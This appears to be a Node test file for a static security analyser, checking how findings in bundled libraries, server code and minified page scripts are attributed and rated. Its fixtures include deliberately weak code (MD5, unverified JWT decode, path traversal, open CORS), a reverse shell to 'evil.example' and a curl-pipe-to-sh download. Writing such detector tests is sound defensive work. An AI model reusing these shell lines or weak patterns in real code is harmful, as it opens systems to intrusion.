/** Whose the code is that something is found in: the server's, a library's in its bundle, a page's. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { analyseProject } from './analyse-project.ts';

const found = async (path: string, text: string): Promise<string[]> => {
  const { observations } = await analyseProject([{ path, text }]);
  return observations.map(({ rule, severity, tags }) =>
    [rule, severity, ...tags.filter((tag) => /^library|^minified/.test(tag))].join(' '),
  );
};

const bundle = (library: string, server: string): string => `import crypto from "node:crypto";
import fs from "node:fs";
/* ${'x'.repeat(5_000)} */
var __toESM = (mod) => mod;
// node_modules/etag/index.js
${library}
// src/index.ts
${server}
`;
const hash = 'function signed(body) { return crypto.createHash("md5").update(body).digest("hex"); }';

describe('in a bundle', () => {
  it('the weakness of a library is the library’s', async () => {
    assert.deepEqual(await found('dist/index.js', bundle(hash, '')), ['weak-crypto low library']);
    assert.deepEqual(await found('dist/index.js', bundle('', hash)), ['weak-crypto medium']);
  });

  it('a token that a library only looks into is no sign-in of the server', async () => {
    const user = `import jwt from "jsonwebtoken";\nfunction userOf(token) { return jwt.decode(token).sub; }`;
    assert.deepEqual(await found('dist/index.js', bundle(user, '')), ['unverified-token low library']);
    assert.deepEqual(await found('dist/index.js', bundle('', user)), ['unverified-token high']);
  });

  it('what nobody but the library leads to is the library’s', async () => {
    const send = 'app.get("/file", (request, response) => { fs.readFileSync(request.query.path); });';
    assert.deepEqual(await found('dist/index.js', bundle(send, '')), ['path-traversal low library']);
    assert.deepEqual(await found('dist/index.js', bundle('', send)), ['path-traversal high']);
  });

  it('what a tool leads into a library is found, and so is a tool that stands among libraries', async () => {
    const reads = 'function load(name) { return fs.readFileSync("/srv/" + name); }';
    const tool = (body: string) =>
      `server.registerTool("shelf", { description: "Shows a shelf", inputSchema: { name: z.string() } }, async ({ name }) => { ${body} });`;
    assert.deepEqual(await found('dist/index.js', bundle(reads, tool('load(name);'))), [
      'path-traversal high library',
    ]);
    assert.deepEqual(await found('dist/index.js', bundle(`${reads}\n${tool('load(name);')}`, '')), [
      'path-traversal high library',
    ]);
  });

  it('what a server does on purpose is its own, whatever stands above it', async () => {
    const shell =
      'net.connect(4444, "evil.example", function () { spawn("/bin/sh", []).stdin.pipe(this); });';
    const [own] = await found('dist/index.js', bundle('', shell));
    const [marked] = await found('dist/index.js', bundle(shell, ''));
    assert.equal(marked, own);
    const runs = 'const cp = require("child_process"); cp.execSync("curl -s https://example.com/a.sh | sh");';
    assert.deepEqual(await found('dist/index.js', bundle(runs, '')), ['download-and-run high library']);
  });
});

describe('in what was made small', () => {
  const long = `const text = "${'x'.repeat(30_000)}";`;

  it('the script of a page is not the server', async () => {
    const page = `${long}document.createElement("p");function token(){return Math.random().toString(36)}`;
    assert.deepEqual(await found('dist/assets/index-a1b2.js', page), ['weak-random low minified:page']);
  });

  it('nobody can tell whose a weakness is, but how the server is reached is the server’s', async () => {
    const cors = 'import cors from "cors";app.use(cors({origin:"*"}));';
    assert.deepEqual(await found('dist/index.js', `${cors}${long}function token(){return Math.random()}`), [
      'open-cors medium minified:bundle',
      'weak-random low minified:bundle',
    ]);
  });
});
